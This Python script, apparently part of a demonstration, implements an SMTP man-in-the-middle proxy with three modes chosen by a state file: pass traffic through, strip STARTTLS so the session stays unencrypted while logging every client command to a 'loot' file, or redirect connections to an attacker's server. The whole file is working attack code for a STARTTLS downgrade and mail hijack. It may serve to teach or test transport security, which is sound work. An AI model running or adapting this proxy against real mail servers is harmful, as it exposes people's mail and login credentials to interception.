#!/usr/bin/python3
"""The path between the world and one mail host, and who sits on it.

It listens on the mail host's public address.  A file with one word says what
happens on the way, and it is read at each connection:

    pass    everything reaches the mail host untouched
    strip   STARTTLS is taken out of the conversation, which is read and kept
    hijack  the connection ends at the attacker's server instead

This is a program of its own, because it has to live on when the demo that
started it ends with KEEP=1.
"""

import argparse
import asyncio
import pathlib

STARTTLS_REPLIES = (b"250-STARTTLS", b"250 STARTTLS")


async def main():
    """Serve until killed."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--listen", required=True, help="address of the mail host")
    parser.add_argument("--server", required=True, help="where the mail host is")
    parser.add_argument("--attacker", required=True, help="the attacker's server")
    parser.add_argument("--state", required=True, help="file with the word")
    parser.add_argument("--loot", required=True, help="what the attacker has read")
    options = parser.parse_args()

    async def connected(reader, writer):
        await handle(options, reader, writer)

    server = await asyncio.start_server(connected, options.listen, 25)
    async with server:
        await server.serve_forever()


async def handle(options, reader, writer):
    """Carry one connection as the state file says."""
    state = pathlib.Path(options.state).read_text(encoding="ascii").strip()
    target = options.attacker if state == "hijack" else options.server
    try:
        far_reader, far_writer = await asyncio.open_connection(target, 25)
    except OSError:
        writer.close()
        return
    if state == "strip":
        talk = Stripper(options.loot)
        there, back = talk.carry_commands, talk.carry_replies
    else:
        there = back = carry
    await asyncio.gather(
        there(reader, far_writer, writer), back(far_reader, writer, far_writer)
    )


async def carry(reader, writer, _back):
    """Copy bytes one way until the end."""
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    except OSError:
        pass
    finally:
        writer.close()


class Stripper:
    """Takes STARTTLS out of one SMTP session and keeps the clear text."""

    def __init__(self, loot):
        self._loot = loot

    async def carry_commands(self, reader, writer, back):
        """Client to server; a STARTTLS sent all the same is refused."""
        try:
            while line := await reader.readline():
                with open(self._loot, "ab") as loot:
                    loot.write(line)
                if line.strip().upper() == b"STARTTLS":
                    back.write(b"502 5.5.1 Command not implemented\r\n")
                    continue
                writer.write(line)
                await writer.drain()
        except (OSError, ValueError):
            pass
        finally:
            writer.close()

    async def carry_replies(self, reader, writer, _back):
        """Server to client, without the line that offers STARTTLS."""
        held = None
        try:
            while line := await reader.readline():
                if line.rstrip().upper() in STARTTLS_REPLIES:
                    # It may be the last line of the reply: then the one
                    # before it, held back for this, has to end the reply.
                    if line[3:4] == b" " and held is not None:
                        writer.write(held[:3] + b" " + held[4:])
                        held = None
                    continue
                if held is not None:
                    writer.write(held)
                    held = None
                if line[3:4] == b"-":
                    held = line
                else:
                    writer.write(line)
                await writer.drain()
        except (OSError, ValueError):
            pass
        finally:
            writer.close()


if __name__ == "__main__":
    asyncio.run(main())
